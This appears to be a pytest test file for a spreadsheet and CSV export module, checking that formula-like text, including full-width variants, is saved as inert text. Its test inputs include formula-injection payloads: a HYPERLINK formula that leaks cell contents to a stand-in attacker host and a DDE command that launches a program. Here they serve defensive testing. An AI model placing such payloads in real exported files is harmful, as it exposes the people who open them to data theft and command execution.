"""Writing workbooks and CSV: text that a spreadsheet would run as a formula stays
text, whether it starts with an ASCII sign or its full-width twin (＝ ＋ － ＠), which
spreadsheet programs with East Asian input treat alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from reformledger.exchange import writing

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '＝HYPERLINK("http://evil.example/","点击")',
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
]


def _workbook(values: list[str]) -> bytes:
    wb = writing.new_workbook()
    ws = wb.create_sheet("台账")
    ws.append([writing.cell(ws, v) for v in values])
    ws.append(writing.plain_row(ws, values))
    return writing.to_bytes(wb)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_full_width_or_not_is_written_to_a_workbook_as_text(text):
    ws = load_workbook(io.BytesIO(_workbook([text, "普通文字"]))).worksheets[0]

    for row in (1, 2):  # through `cell` and through `plain_row`
        written = ws.cell(row, 1)
        assert written.value == text
        assert written.data_type == "s" and written.quotePrefix
        plain = ws.cell(row, 2)
        assert plain.value == "普通文字" and not plain.quotePrefix


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_full_width_or_not_gets_an_apostrophe_in_csv(text):
    data = writing.csv_bytes([["代码", "标题"], ["2016-001", text], ["2016-002", "普通文字"]])

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + text
    assert rows[2][1] == "普通文字"


def _cell_facts(c) -> tuple:
    return (
        c.value,
        c.data_type,
        c.number_format,
        bool(c.quotePrefix),
        c.border.left.style,
        c.alignment.horizontal,
        c.alignment.wrap_text,
        c.fill.fgColor.rgb if c.fill.fill_type else None,
        c.font.bold,
    )


def test_a_styled_row_is_written_as_openpyxl_writes_the_same_cells():
    """The fast path of `StyledSheet` writes what openpyxl writes cell by cell."""
    import datetime as dt

    values = [1, "普通文字", " 前后空格 ", "=1+1", None, True, 2.5, dt.date(2030, 12, 31), "", "C"]
    styles = ["centre", "wrap", "wrap", "wrap", "centre", None, "plain", "centre", "wrap"]
    styles.append(("centre", "#fd7e14"))
    wb = writing.new_workbook()
    fast = writing.new_sheet(wb, "fast")
    fast.append(writing.StyledRow(values, styles, height=47))
    fast.append(writing.StyledRow(["bare", None], [None, None]))
    slow = wb.create_sheet("slow")
    slow.append(
        [
            writing.cell(slow, v, style=s if not isinstance(s, tuple) else s[0], fill=None)
            if not isinstance(s, tuple)
            else writing.cell(slow, v, style=s[0], fill=s[1])
            for v, s in zip(values, styles, strict=True)
        ]
    )
    data = writing.to_bytes(wb)

    book = load_workbook(io.BytesIO(data))
    a, b = book["fast"], book["slow"]
    for col in range(1, len(values) + 1):
        assert _cell_facts(a.cell(1, col)) == _cell_facts(b.cell(1, col)), col
    assert a.cell(1, 8).value.date() == dt.date(2030, 12, 31)
    assert a.cell(1, 8).number_format == writing.DATE_FORMAT
    assert a.cell(1, 4).quotePrefix and a.cell(1, 4).data_type == "s"
    assert a.cell(1, 3).value == " 前后空格 "
    assert a.cell(1, 10).fill.fgColor.rgb.endswith("FD7E14")
    assert a.row_dimensions[1].height == 47
    assert a.cell(2, 1).value == "bare" and a.cell(2, 1).border.left.style is None


def test_a_styled_row_needs_a_style_per_column():
    wb = writing.new_workbook()
    ws = writing.new_sheet(wb, "x")
    with pytest.raises(ValueError):
        ws.append(writing.StyledRow([1, 2], ["centre"]))
        writing.to_bytes(wb)


def test_rows_grow_for_wrapped_text_and_line_breaks():
    assert writing.row_height(["短", "x" * 5], [10, 10]) is None
    assert writing.row_height(["一\n二\n三", ""], [10, 10]) == 15 * 3 + 2
    # 20 wide characters take 40 columns: five lines of a 10 wide column (9 usable).
    assert writing.row_height(["改" * 20], [10]) == 15 * 5 + 2


def test_csv_written_to_a_file_is_the_same_as_in_memory():
    rows = [["代码", "标题", "数"], ["2016-001", "=1+1", -1], ["2016-002", None, 3]]
    out = io.BytesIO()

    writing.write_csv([list(r) for r in rows], out, text=[0, 1])

    assert out.getvalue() == writing.csv_bytes(rows).replace(b"'-1", b"-1")
    assert out.getvalue().decode("utf-8-sig").splitlines()[1] == "2016-001,'=1+1,-1"
